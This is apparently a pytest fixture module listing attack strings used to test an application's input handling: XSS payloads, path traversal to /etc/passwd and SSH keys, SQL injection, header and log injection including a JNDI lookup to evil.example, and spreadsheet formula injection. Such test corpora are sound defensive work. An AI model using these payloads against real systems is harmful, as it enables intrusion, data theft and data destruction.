"""What attackers type: one list a language, used wherever a person or a system may write something."""

from typing import Any

import pytest

XSS = (
    "<script>alert('leuko-xss')</script>",
    "\"><script>alert('leuko-xss')</script>",
    "'><img src=x onerror=alert('leuko-xss')>",
    "<svg onload=alert('leuko-xss')>",
    "<svg><animate onbegin=alert('leuko-xss') attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.alert('leuko-xss')</script>\">",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert('leuko-xss')>",
    "javascript:alert('leuko-xss')",
    "<a href=javascript:alert('leuko-xss')>x</a>",
    "<body onload=alert('leuko-xss')>",
    "<input autofocus onfocus=alert('leuko-xss')>",
    "<details open ontoggle=alert('leuko-xss')>",
    "<link rel=stylesheet href=//evil.example/leuko-xss.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example/><button>leuko-xss</button></form>",
    "{{7*7}}{% raw %}leuko-xss{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert('leuko-xss')}",
    "<img src=x hx-get=/admin hx-trigger=load>",
    "<div hx-on::load=\"alert('leuko-xss')\">",
    "\u202e<script>alert('leuko-xss')</script>",
    "\u003cscript\u003ealert('leuko-xss')\u003c/script\u003e",
    "--><script>alert('leuko-xss')</script>",
    "</textarea><script>alert('leuko-xss')</script>",
    "</title><script>alert('leuko-xss')</script>",
    "x' onmouseover='alert(`leuko-xss`)",
    'x" autofocus onfocus="alert(`leuko-xss`)',
)

PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "..\\..\\..\\etc\\passwd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "~root/.ssh/id_rsa",
    "cell.png%00.html",
    "..;/..;/etc/passwd",
    ".",
    "..",
    "...",
    "CON",
    "nul.png",
    "a" * 5000,
    "\u202egnp.exe",
    "cell\u2215..\u2215..\u2215etc\u2215passwd",
    "case_log.sqlite3",
    "../case_log.sqlite3",
    "secret_key",
    "../secret_key",
    "%2e%2e%2fsecret_key",
    "audit/heads.jsonl",
)

SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE cases; --",
    "1; SELECT pg_sleep(5)",
    "' UNION SELECT password_hash FROM users --",
    "') OR ('a'='a",
    "'||(SELECT email FROM users)||'",
    "' AND (SELECT count(*) FROM users) > 0 --",
    "%",
    "_",
    "%%%",
    "\\",
    "\\%",
    "*",
    "?",
    ":id",
    "%(id)s",
    "$1",
    "''",
    "`",
    "\u02bc OR 1=1",
    "admin'/*",
    "1/0",
    "NULL",
    "true",
    "[]",
    "{}",
    "0x27",
    "CHAR(39)",
    "a\x00b",
)

HEADERS = (
    "x\r\nSet-Cookie: planted=1",
    "x\nLocation: https://evil.example/",
    "x%0d%0aSet-Cookie:%20planted=1",
    "x\u560d\u560aSet-Cookie: planted=1",
    "/cases\r\n\r\n<script>alert(1)</script>",
    "/\tx",
)

LOGS = (
    'x\r\n{"event": "forged", "level": "info"}',
    'x\n{"event": "forged"}',
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "${jndi:ldap://evil.example/a}",
    "%s %n %(secret)s {secret}",
    "\u2028forged\u2029",
    "\x85forged",
)

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1")


def some(corpus: tuple[str, ...], count: int) -> list[Any]:
    """Parameters of a test: the first few for the default tier, the others for the slow one."""
    return [*corpus[:count], *(pytest.param(text, marks=pytest.mark.slow) for text in corpus[count:])]
